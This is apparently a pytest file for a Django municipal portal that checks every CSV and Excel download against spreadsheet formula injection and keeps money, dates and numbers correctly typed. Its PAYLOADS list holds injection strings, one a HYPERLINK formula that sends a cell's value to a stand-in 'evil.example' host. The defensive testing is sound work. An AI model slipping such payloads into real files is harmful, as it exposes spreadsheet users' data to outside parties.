"""Downloads are safe (issue 9, section 5): every CSV and Excel download of the portal, opened
the way a spreadsheet would open it, holds no formula, whatever people typed.

For each payload, a world is built whose every free-text field that reaches a download starts
with it (names, addresses, workplaces, unit names and codes, titles); every download route is
opened as the user it is for and parsed (openpyxl: every sheet, every cell; csv: every cell).
Each payload must be found, neutralised, in the download that shows its field, so the test
cannot pass on an empty file. Money, counts and dates must keep their types.

DOWNLOADS lists the downloads; a route of the URL conf that answers a file and is not listed
fails `test_every_download_route_is_tested`, so a new download joins by itself or says so.
"""

import csv
import inspect
import io
import re
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from grids.models import Category, Level, Member, PersonalDataReveal, Role, Unit
from grids.services.members_export import COLUMNS, TEXT_COLUMNS
from grids.services.members_import import import_workbook
from projects.models.funds import Expenditure
from projects.services import funds as fund_services
from tests import factory_volunteer as fv
from tests.factory import make_unit, make_user
from tests.factory_members import make_member
from tests.factory_micro import in_progress, make_line, make_project

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&E2,"点我")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")
CSV_NUMBER = re.compile(r"-?\d{1,3}(,\d{3})*(\.\d+)?|-?\d+(\.\d+)?")
CSV_MONEY = re.compile(r"-?\d{1,3}(,\d{3})*\.\d{2}")
MONEY_FORMAT = "#,##0.00"
ROOT = Path(__file__).resolve().parent.parent

# What the world spends: 200,000 approved; two expenditures whose sum SQLite once gave as
# 140131.040000000; a social investment.
APPROVED, SPENT, SOCIAL = Decimal("200000.00"), [Decimal("100000.02"), Decimal("40131.02")], Decimal("548.96")


def tagged(payload, tag, limit):
    """The payload first (that is what a spreadsheet looks at), then a tag naming the field,
    within the field's length."""
    return payload[: limit - len(tag)] + tag


@dataclass
class World:
    admin: object
    district: Unit
    texts: dict = field(default_factory=dict)  # field key -> the text stored in it
    member_dates: tuple = ()


def _set(obj, key, world, **values):
    """Store risky text by UPDATE, past the services' cleaning: a download must be safe
    whatever way the text came in (admin, an old import, a migration)."""
    type(obj).objects.filter(pk=obj.pk).update(**values)
    for name, value in values.items():
        world.texts[f"{key}.{name}"] = value


def make_world(payload):
    district = make_unit(Level.DISTRICT, "区", code="440399")
    street = make_unit(Level.STREET, "街道", district, code="440399001")
    community = make_unit(Level.COMMUNITY, "社区", street, code="440399001001")
    grid = make_unit(Level.GRID, "网格", community, code="440399001001001")
    world = World(admin=make_user("downloads_admin", district, Role.ADMIN), district=district)
    for key, unit, tag in [("district", district, "区"), ("street", street, "街道"), ("community", community, "社区")]:
        _set(unit, key, world, name=tagged(payload, tag, 100))
    _set(grid, "grid", world, name=tagged(payload, "网格", 100), code=tagged(payload, "码", 20))

    member = make_member(grid, "党员", category=Category.IN_SERVICE)
    _set(
        member,
        "member",
        world,
        name=tagged(payload, "姓名", 50),
        ethnicity=tagged(payload, "族", 20),
        workplace=tagged(payload, "单位", 150),
        address=tagged(payload, "住址", 200),
        outside_org=tagged(payload, "党委", 150),
    )
    world.member_dates = (member.birth_date, member.joined_on, member.full_member_on)

    project = in_progress(make_project(community, amount=str(APPROVED)), make_line(district, amount="5000000.00"))
    for amount in SPENT:
        fund_services.record_expenditure(project=project, actor=None, amount=amount, date=date(2026, 4, 1), payee="某")
    fund_services.record_social_investment(
        project=project, actor=None, amount=SOCIAL, source="某企业", date=date(2026, 4, 2)
    )
    _set(project, "micro", world, title=tagged(payload, "项目", 100))

    volunteer = fv.make_volunteer(community, "志愿者")
    fv.make_record(fv.make_activity(fv.make_project(community), days=-3), volunteer, "2.50")
    _set(volunteer, "volunteer", world, name=tagged(payload, "志愿者", 50))
    return world


@dataclass(frozen=True)
class Download:
    route: str
    variant: str  # what tells two downloads of one route apart
    shows: tuple  # keys of World.texts this download must hold
    money: tuple = ()  # headers (msgids) of columns of money in yuan
    dates: tuple = ()  # headers (msgids) of columns of dates
    numbers: tuple = ()  # headers (msgids) of other numeric columns
    public: bool = False
    method: str = "get"
    args: object = lambda world: ()
    params: object = lambda world: {}

    def __str__(self):
        return f"{self.route}[{self.variant}]" if self.variant else self.route


BULK_IMPORTS = ("units", "posts", "reports", "claims")


def _community(world):
    return Unit.objects.get(level=Level.COMMUNITY, path__startswith=world.district.path)


def _today_period(world):
    today = timezone.localdate()
    return {"start": today - timedelta(days=30), "end": today}


MICRO_MONEY = ("Approved amount (yuan)", "Spent (yuan)", "Social investment (yuan)")
MICRO_SHOWS = ("street.name", "community.name", "micro.title")
MEMBER_SHOWS = tuple(f"member.{name}" for name in ("name", "ethnicity", "workplace", "address", "outside_org"))
MEMBER_DATES = ("Date of birth", "Date joined the Party", "Date of full membership")
DOWNLOADS = [
    Download(
        "demand_rates",
        "export=xlsx",
        ("street.name",),
        numbers=("Demands",),  # the rates are empty cells while nothing was answered
        params=lambda w: {"export": "xlsx"},
    ),
    Download("micro_csv", "", MICRO_SHOWS, MICRO_MONEY, numbers=("Year proposed",), public=True),
    Download("micro_xlsx", "", MICRO_SHOWS, MICRO_MONEY, numbers=("Year proposed",), public=True),
    Download("micro_staff_list", "export=xlsx", MICRO_SHOWS, MICRO_MONEY, params=lambda w: {"export": "xlsx"}),
    Download(
        "micro_staff_funnel",
        "export=xlsx",
        ("street.name",),
        ("Approved (yuan)", "Spent (yuan)"),
        numbers=("Year", "Proposed", "Approved"),
        params=lambda w: {"export": "xlsx"},
    ),
    Download(
        "micro_staff_funnel",
        "export=xlsx&by=community",
        ("street.name", "community.name"),
        ("Approved (yuan)", "Spent (yuan)"),
        params=lambda w: {"export": "xlsx", "by": "community"},
    ),
    Download("member_export", "", (*MEMBER_SHOWS, "district.name"), dates=MEMBER_DATES, args=lambda w: [w.district.pk]),
    Download(
        "member_export",
        "full",
        (*MEMBER_SHOWS, "district.name"),
        dates=MEMBER_DATES,
        method="post",
        args=lambda w: [w.district.pk],
    ),
    Download("member_import_template", "", ("district.name", "grid.code"), args=lambda w: [w.district.pk]),
    # The units' export (the community's grids and building groups) and the bulk imports' templates
    # (example rows only: no stored text reaches them).
    Download("units_export", "", ("grid.name", "grid.code"), args=lambda w: [_community(w).pk]),
    *[Download(f"{name}_import_template", "", (), args=lambda w: [_community(w).pk]) for name in BULK_IMPORTS],
    # The audit trail: a record's name reaches it (the entry of the member's creation).
    Download("audit_list", "export=xlsx", ("member.name",), params=lambda w: {"export": "xlsx"}),
    Download(
        "volunteer_staff_hours_export",
        "",
        ("volunteer.name", "community.name"),
        numbers=("Activities", "Hours"),
        params=_today_period,
    ),
    # Dashboards (issue 12): the report names the unit and its child units.
    Download(
        "dashboard_report",
        "export=xlsx",
        ("district.name", "street.name"),
        args=lambda w: [w.district.pk],
        params=lambda w: {"period": "year", "export": "xlsx"},
    ),
    Download("report_download", "", ("district.name", "street.name"), args=lambda w: [_kept_report(w).pk]),
    Download("open_data", "format=csv", ("street.name",), public=True, params=lambda w: {"format": "csv"}),
]


def _kept_report(world):
    """The month's report of the district as the scheduled job keeps it."""
    from grids.models import UnitReport
    from portal.core.periods import Period
    from portal.dashboards.jobs import write_report

    period = Period.containing("month", timezone.localdate())
    district = Unit.objects.get(pk=world.district.pk)  # its name as stored, payload and all
    return write_report(district, period) or UnitReport.objects.get(unit=district, start=period.start)


def downloads(route, variant=""):
    return next(d for d in DOWNLOADS if (d.route, d.variant) == (route, variant))


def _label(msgid):
    with translation.override("zh-hans"):
        return gettext(msgid)


def fetch(client, download, world):
    if download.public:
        client.logout()
    else:
        client.force_login(world.admin)
    url = reverse(download.route, args=download.args(world))
    response = getattr(client, download.method)(url, download.params(world))
    assert response.status_code == 200, f"{download}: {response.status_code}"
    assert response["Content-Disposition"].startswith("attachment"), download
    return response


# --- Reading a download as a spreadsheet would ---------------------------------------------


def _risky_text(cell):
    return cell.data_type == "s" and cell.value.startswith((*RISKY_START, "\n"))


def xlsx_tables(response):
    """Every sheet of an .xlsx as rows of openpyxl cells; no cell may be a formula. (A string
    cell is never evaluated, whatever it starts with.)"""
    book = load_workbook(io.BytesIO(response.content))
    tables = []
    for sheet in book.worksheets:
        rows = [list(row) for row in sheet.iter_rows()]
        formulas = [f"{sheet.title}!{c.coordinate}: {c.value!r}" for row in rows for c in row if c.data_type == "f"]
        assert not formulas, formulas
        # Risky text keeps Excel's quote prefix, so it stays text once edited in Excel.
        bare = [c.coordinate for row in rows for c in row if _risky_text(c) and not c.quotePrefix]
        assert not bare, f"{sheet.title}: {bare}"
        tables.append(rows)
    return tables


def csv_table(response):
    """The rows of a CSV; no cell may start like a formula unless it is a number."""
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    risky = [cell for row in rows for cell in row if cell.startswith(RISKY_START) and not CSV_NUMBER.fullmatch(cell)]
    assert not risky, risky
    return rows


def column(rows, header, value=lambda cell: cell):
    """The values below `header` (the first row that holds it) in its column, blanks left out."""
    for index, row in enumerate(rows):
        labels = [value(cell) for cell in row]
        if header in labels:
            position = labels.index(header)
            return [row[position] for row in rows[index + 1 :] if value(row[position]) not in (None, "")]
    raise AssertionError(f"no column {header!r}")


def check_xlsx(download, response, world):
    tables = xlsx_tables(response)
    texts = {c.value for rows in tables for row in rows for c in row if c.data_type == "s"}
    for key in download.shows:
        # XML turns a carriage return into a line feed; in a string cell it is only text.
        expected = world.texts[key].replace("\r", "\n")
        assert any(text.startswith(expected) for text in texts), f"{download}: {key} missing"
    main = tables[0]
    for header in download.money:
        cells = column(main, _label(header), lambda c: c.value)
        assert cells, f"{download}: no amount under {header}"
        for cell in cells:
            assert cell.data_type == "n" and cell.number_format == MONEY_FORMAT, (download, header, cell.value)
    for header in download.numbers:
        cells = column(main, _label(header), lambda c: c.value)
        assert cells and all(cell.data_type == "n" for cell in cells), (download, header)
    for header in download.dates:
        cells = column(main, _label(header), lambda c: c.value)
        assert cells and all(cell.is_date and isinstance(cell.value, datetime) for cell in cells), (download, header)
        assert {cell.value.date() for cell in cells} <= set(world.member_dates)
    return main


def check_csv(download, response, world):
    rows = csv_table(response)
    cells = {cell for row in rows for cell in row}
    for key in download.shows:
        text = world.texts[key]
        expected = "'" + text if text.startswith(RISKY_START) else text
        assert any(cell.startswith(expected) for cell in cells), f"{download}: {key} missing or not neutralised"
    for header in download.money:
        values = column(rows, _label(header))
        assert values and all(CSV_MONEY.fullmatch(v) for v in values), (download, header, values)
    for header in download.numbers:
        values = column(rows, _label(header))
        assert values and all(CSV_NUMBER.fullmatch(v) for v in values), (download, header, values)
    return rows


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_no_download_holds_a_formula(db, client, payload):
    world = make_world(payload)
    for download in DOWNLOADS:
        response = fetch(client, download, world)
        if response["Content-Type"].startswith("text/csv"):
            check_csv(download, response, world)
        else:
            check_xlsx(download, response, world)


def test_money_reads_the_same_in_every_download(db, client):
    """Two decimals and separators in CSV ("140,131.04", never "140131.040000000"), the exact
    amount as a number in Excel."""
    world = make_world("梅岗")
    spent = sum(SPENT)
    public_csv = downloads("micro_csv")
    rows = check_csv(public_csv, fetch(client, public_csv, world), world)
    amounts = [column(rows, _label(header)) for header in MICRO_MONEY]
    assert amounts == [["200,000.00"], ["140,131.04"], ["548.96"]]
    for download in [downloads("micro_xlsx"), downloads("micro_staff_list", "export=xlsx")]:
        sheet = check_xlsx(download, fetch(client, download, world), world)
        values = [[Decimal(str(c.value)) for c in column(sheet, _label(h), lambda c: c.value)] for h in MICRO_MONEY]
        assert values == [[APPROVED], [spent], [SOCIAL]], download
    funnel = downloads("micro_staff_funnel", "export=xlsx")
    sheet = check_xlsx(funnel, fetch(client, funnel, world), world)
    assert [Decimal(str(c.value)) for c in column(sheet, _label("Spent (yuan)"), lambda c: c.value)] == [spent]
    assert Expenditure.objects.count() == 2


# --- Every download is in DOWNLOADS --------------------------------------------------------


def _routes(patterns=None, prefix=""):
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry.url_patterns, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and entry.name:
            yield prefix + str(entry.pattern), entry.name, entry.callback


def _our_views():
    apps = ("grids.", "centers.", "projects.", "portal.")
    # The admin writes no download of ours (its URL names need the "admin:" namespace).
    return [
        (path, name, view)
        for path, name, view in _routes()
        if view.__module__.startswith(apps) and not path.startswith("admin/")
    ]


def test_every_download_route_is_tested(db, client):
    tested = {download.route for download in DOWNLOADS}
    by_name = {
        name
        for path, name, _view in _our_views()
        if re.search(r"export|csv|xlsx|template|download", f"{path} {name}", re.IGNORECASE)
    }
    writer = re.compile(r"\b(csv_response|xlsx_response|rows_to_xlsx)\(|GET\.get\(\"export\"\)")
    by_source = {name for _path, name, view in _our_views() if writer.search(inspect.getsource(inspect.unwrap(view)))}
    # Pages without path parameters, opened as a superuser as they are and with ?export=:
    # whatever answers with a file is a download.
    make_world("梅岗")
    root = make_user("downloads_root", is_superuser=True)
    client.force_login(root)
    answered = set()
    for path, name, _view in _our_views():
        if "<" in path or "(?P" in path or name in ("logout", "set_language"):
            continue
        for query in ("", "export=xlsx", "export=csv"):
            response = client.get(f"{reverse(name)}?{query}")
            if response.get("Content-Disposition", "").startswith("attachment"):
                answered.add(name)
    untested = (by_name | by_source | answered) - tested
    assert not untested, f"downloads missing from tests/test_downloads.py DOWNLOADS: {sorted(untested)}"
    assert {"micro_csv", "micro_staff_list", "micro_staff_funnel"} <= answered  # the probe sees downloads


def test_one_writer_for_every_download():
    """Only portal/core/exports.py builds a CSV or a workbook to download."""
    writing = re.compile(r"csv\.writer|\bWorkbook\(|WriteOnlyCell|Content-Disposition|text/csv|spreadsheetml")
    # The member import writes CSV to PostgreSQL's COPY, not to anyone's spreadsheet.
    # The development server's media view serves uploaded files (PDFs as attachments), it writes none.
    allowed = {"portal/core/exports.py", "grids/services/members_updates.py", "portal/media.py"}
    found = []
    for folder in ("grids", "centers", "projects", "portal"):
        for path in (ROOT / folder).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if relative not in allowed and writing.search(path.read_text(encoding="utf-8")):
                found.append(relative)
    assert not found, f"downloads written outside portal/core/exports.py: {found}"


# --- What the export writes, the import reads back -----------------------------------------


def test_exported_text_comes_back_the_same_through_the_import(db, client):
    world = make_world("梅岗")
    grid = Unit.objects.get(level=Level.GRID)
    member = make_member(grid, "=1+1", category=Category.IN_SERVICE, ethnicity="汉族")
    Member.objects.filter(pk=member.pk).update(workplace="=1+1", address="+86 某小区", outside_org="@某党委")
    member.refresh_from_db()
    numbers = {m.reveal_id_card() for m in Member.objects.all()}
    response = fetch(client, downloads("member_export", "full"), world)  # the full export, numbers included
    # Reveals keep their members (PROTECT): the test clears them first, as no user can.
    PersonalDataReveal.objects.all().delete()
    Member.objects.all().delete()
    result = import_workbook(io.BytesIO(response.content), user=world.admin)
    assert result.ok, result.errors
    again = Member.objects.get(id_card_hash=member.id_card_hash)
    fields = ["name", "gender", "ethnicity", "workplace", "address", "outside_org", "birth_date", "joined_on"]
    fields += ["full_member_on", "status", "category", "education", "unit_id"]
    assert [getattr(again, f) for f in fields] == [getattr(member, f) for f in fields]
    assert again.reveal_mobile() == member.reveal_mobile()
    assert {m.reveal_id_card() for m in Member.objects.all()} == numbers


def test_template_keeps_numbers_as_text(db, client):
    world = make_world("梅岗")
    sheet = load_workbook(io.BytesIO(fetch(client, downloads("member_import_template"), world).content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert header == [str(label) for _key, label, _required, _width in COLUMNS]
    for index, (key, _label, _required, _width) in enumerate(COLUMNS):
        # The whole column is text, whatever row one types in.
        column = sheet.column_dimensions[get_column_letter(index + 1)]
        assert column.number_format == ("@" if key in TEXT_COLUMNS else "General"), key
